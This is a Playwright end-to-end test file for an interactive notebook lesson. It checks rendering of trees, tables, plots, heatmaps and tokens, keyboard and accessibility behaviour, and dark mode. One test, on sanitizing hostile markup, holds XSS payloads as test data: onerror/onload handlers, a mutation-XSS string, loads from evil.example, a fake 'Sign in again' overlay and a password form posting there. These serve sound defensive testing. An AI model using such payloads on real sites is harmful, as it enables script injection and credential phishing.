@@ -1,0 +1,185 @@
+import type { Locator, Page } from "@playwright/test";
+import { cellOf, leaveDrafts, lesson, runCell } from "./cells";
+import { expect, expectAccessible, test } from "./fixtures";
+
+/** What a cell shows, kind by kind: by pointer, by keyboard, on a phone, by day and by night. */
+const id = "softmax";
+
+async function show(page: Page, code: string): Promise<Locator> {
+  await page.goto(lesson);
+  await leaveDrafts(page, { [id]: code });
+  const cell = cellOf(page, id);
+  expect(await runCell(cell)).toBe("done");
+  return cell;
+}
+
+const output = (cell: Locator, kind: string) => cell.locator(`[data-output="${kind}"]`);
+
+const everyKind = `
+import { display, expect, heatmap, html, markdown, plot, svg, table, tokens } from "glassbox";
+
+display({ name: "story-1m", layers: [{ heads: 4, width: 128 }, { heads: 4, width: 128 }], tied: true, note: "x".repeat(60) });
+display(Array.from({ length: 300 }, (_, i) => Math.sin(i / 20) * Math.exp(-i / 150)));
+display([[0.25, -1, 3], [2, 0.5, -0.125]]);
+heatmap(Array.from({ length: 60 }, (_, t) => Array.from({ length: 60 }, (_, s) => (s > t ? 0 : 1 / (1 + t - s)))));
+display(Array.from({ length: 6 }, (_, h) => Array.from({ length: 12 }, (_, t) => Array.from({ length: 12 }, (_, s) => Math.cos(h * t - s)))));
+tokens(["Once", " upon", " a", " time", ",", "\\n", " there"], { title: "Seven tokens", probabilities: [0.02, 0.9, 0.99, 0.6, 0.4, 0.1, 0.3], ids: [7, 8, 9, 10, 11, 12, 13] });
+plot({
+  title: "Loss of two models",
+  data: Array.from({ length: 60 }, (_, i) => ({ step: i + 1, loss: 4 / Math.sqrt(i + 1) + (i % 2 ? 0.3 : 0), model: i % 2 ? "draft" : "base" })),
+  marks: [{ mark: "line", x: "step", y: "loss", color: "model" }, { mark: "dot", x: "step", y: "loss", color: "model" }, { mark: "rule", y: 1 }],
+  y: { log: true, label: "loss (nats)" },
+});
+plot({ data: [{ part: "FFN", share: 67 }, { part: "attention", share: 33 }], marks: [{ mark: "bar", x: "share", y: "part" }] });
+markdown("## In words\\n\\nAttention is **shared out**:\\n\\n| key | weight |\\n|---|--:|\\n| a | 0.5 |\\n\\n- one\\n- \`two\`");
+html("<p>Plain <strong style='color: #b5532a; position: fixed'>HTML</strong> with a <a href='https://example.org/'>word</a></p>");
+svg("<svg viewBox='0 0 120 40' width='240'><title>Two dots</title><circle cx='20' cy='20' r='12' fill='#2167a3'/><circle cx='80' cy='20' r='12' fill='#b5532a'/></svg>");
+expect([0.5, 0.5].reduce((a, b) => a + b), "the sum").toBeCloseTo(1);
+expect([[1, 2], [3, 4]], "the scores").toHaveShape([2, 3]);
+console.log("a line of the console");
+console.warn("a warning");
+table(Array.from({ length: 320 }, (_, i) => ({ word: ["ball", "key", "box"][i % 3] + i, p: (i * 37) % 320 })));
+`;
+
+test("every kind is drawn, and passes the accessibility checks by day and by night", async ({ page }) => {
+  const cell = await show(page, everyKind);
+  for (const kind of [
+    "tree",
+    "series",
+    "heatmap",
+    "tensor",
+    "tokens",
+    "markup",
+    "expectation",
+    "text",
+    "table",
+  ])
+    await expect(output(cell, kind).first()).toBeVisible();
+  await expect(output(cell, "plot").first().locator("svg [aria-label='line'] path")).toHaveCount(2);
+  await expect(output(cell, "plot").last().locator("svg [aria-label='bar'] rect")).toHaveCount(2);
+  await expect(cell.getByRole("group", { name: "Output", exact: true })).toBeVisible();
+  const wide = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+  expect(wide).toBeLessThanOrEqual(0);
+  await expectAccessible(page);
+  await page.emulateMedia({ colorScheme: "dark" });
+  await expectAccessible(page);
+});
+
+test("a tree opens part by part, by keyboard alone", async ({ page }) => {
+  const cell = await show(page, '({ layers: [{ heads: 4 }, { heads: 8 }], name: "x".repeat(80) })');
+  const tree = cell.getByRole("tree");
+  await expect(tree.getByRole("treeitem")).toHaveCount(3);
+  await tree.getByRole("treeitem").first().focus();
+  await page.keyboard.press("ArrowDown");
+  await page.keyboard.press("ArrowRight");
+  await expect(tree.getByRole("treeitem", { name: /^1: / })).toBeVisible();
+  await page.keyboard.press("ArrowRight");
+  await page.keyboard.press("Enter");
+  const heads = tree.getByRole("treeitem", { name: "heads: 4" });
+  await expect(heads.last()).toHaveAttribute("aria-level", "4");
+  await page.keyboard.press("ArrowLeft");
+  await page.keyboard.press("ArrowLeft");
+  await page.keyboard.press("ArrowLeft");
+  await expect(tree.getByRole("treeitem")).toHaveCount(3);
+  await expect(tree.getByRole("treeitem", { name: /^layers/ })).toBeFocused();
+});
+
+test("a table sorts by a press on a column's name, and shows more on request", async ({ page }) => {
+  const rows = "Array.from({ length: 120 }, (_, i) => ({ i, p: (i * 7) % 120 }))";
+  const cell = await show(page, rows);
+  const table = output(cell, "table");
+  await expect(table.getByRole("row")).toHaveCount(51);
+  await table.getByRole("button", { name: "p", exact: true }).click();
+  await expect(table.getByRole("columnheader", { name: "p" })).toHaveAttribute("aria-sort", "descending");
+  await expect(table.getByRole("row").nth(1).getByRole("cell").last()).toHaveText("119");
+  await table.getByRole("button", { name: "p", exact: true }).press("Enter");
+  await expect(table.getByRole("row").nth(1).getByRole("cell").last()).toHaveText("0");
+  await table.getByRole("button", { name: "Show 70 more" }).click();
+  await expect(table.getByRole("row")).toHaveCount(121);
+});
+
+test("numbers in pictures are read by pointer and by arrow keys", async ({ page }) => {
+  const cell = await show(
+    page,
+    `import { display, heatmap } from "glassbox";
+display(Array.from({ length: 101 }, (_, i) => i / 4));
+heatmap(Array.from({ length: 50 }, (_, i) => Array.from({ length: 50 }, (_, j) => 100 * i + j)));
+display([[[1, 2], [3, 4]], [[5, 6], [7, 8]]]);`,
+  );
+  const series = output(cell, "series");
+  await series.getByRole("slider").focus();
+  await page.keyboard.press("End");
+  await expect(series.getByText("index 100: 25", { exact: true })).toBeVisible();
+  await page.keyboard.press("ArrowLeft");
+  await expect(series.getByRole("slider")).toHaveAttribute("aria-valuetext", "index 99: 24.75");
+
+  const picture = output(cell, "heatmap").first();
+  await picture.getByRole("group").focus();
+  await page.keyboard.press("ArrowDown");
+  await page.keyboard.press("ArrowRight");
+  await expect(picture.getByText("row 1, column 1: 101")).toBeVisible();
+
+  const tensor = output(cell, "tensor");
+  await tensor.getByRole("button", { name: "Show slice [1]" }).click();
+  await expect(tensor.getByRole("gridcell", { name: "row 1, column 1: 8" })).toBeVisible();
+});
+
+test("a long text opens on request", async ({ page }) => {
+  const cell = await show(page, "for (let i = 0; i < 100; i++) console.log('line ' + i);");
+  await expect(cell.getByText("line 99")).toBeHidden();
+  await cell.getByText("Show 80 more lines").click();
+  await expect(cell.getByText("line 99")).toBeVisible();
+});
+
+test("hostile markup runs nothing, reaches nothing and stays in its box", async ({ page }) => {
+  const hostile = [
+    "<img src=x onerror=document.title='owned'><img src=https://evil.example/pixel.png>",
+    "<svg onload=document.title='owned'><use href='https://evil.example/a.svg#b'/><image href='https://evil.example/c.png'/></svg>",
+    "<link rel=preconnect href=https://evil.example><style>@import 'https://evil.example/a.css'; body { display: none }</style>",
+    "<div style='position: fixed; inset: 0; background: url(https://evil.example/b)'>Sign in again</div>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=document.title=1&gt;'>",
+    "<form action=https://evil.example><input name=password><button>Go</button></form>",
+  ];
+  const lines = hostile.flatMap((source) =>
+    ["html", "svg", "markdown"].map((how) => `${how}(${JSON.stringify(source)});`),
+  );
+  const cell = await show(page, `import { html, markdown, svg } from "glassbox";\n${lines.join("\n")}`);
+  await expect(output(cell, "markup")).toHaveCount(lines.length);
+  await expect(output(cell, "markup").getByText("Sign in again").first()).toBeVisible();
+  await expect(page).not.toHaveTitle(/owned|^1$/);
+  const found = await output(cell, "markup").evaluateAll((markups) =>
+    markups.flatMap((markup) => {
+      const elements = [
+        ...markup.querySelectorAll("link, style, script, form, input, use, image, a, iframe, [href]"),
+      ];
+      const fixed = [...markup.querySelectorAll("*")].filter(
+        (one) => getComputedStyle(one).position === "fixed",
+      );
+      return [...elements, ...fixed].map((one) => one.outerHTML);
+    }),
+  );
+  expect(found).toEqual([]);
+});
+
+test("a mistake in a chart's specification names the mark and the line", async ({ page }) => {
+  await page.goto(lesson);
+  await leaveDrafts(page, {
+    [id]: 'import { plot } from "glassbox";\nplot({ data: [{ a: 1 }], marks: [{ mark: "line", x: "a", y: "b" }] });',
+  });
+  const cell = cellOf(page, id);
+  expect(await runCell(cell)).toBe("failed");
+  await expect(output(cell, "error")).toContainText('mark 1 (line) says y: "b", but its rows have a.');
+  await expect(cell.getByRole("button", { name: "in line 2" })).toBeVisible();
+});
+
+test.describe("without JavaScript", () => {
+  test.use({ javaScriptEnabled: false, expected: /^failed: .*\.js csp$/ });
+
+  test("the charts of a lesson are drawn, with their numbers to open", async ({ page }) => {
+    await page.goto(lesson);
+    const chart = page.locator('[data-output="plot"]').first();
+    await expect(chart.locator("svg [aria-label='line'] path").filter({ visible: true })).toHaveCount(2);
+    await chart.getByText("In words and numbers").click();
+    await expect(chart.getByRole("row").nth(1)).toBeVisible();
+  });
+});
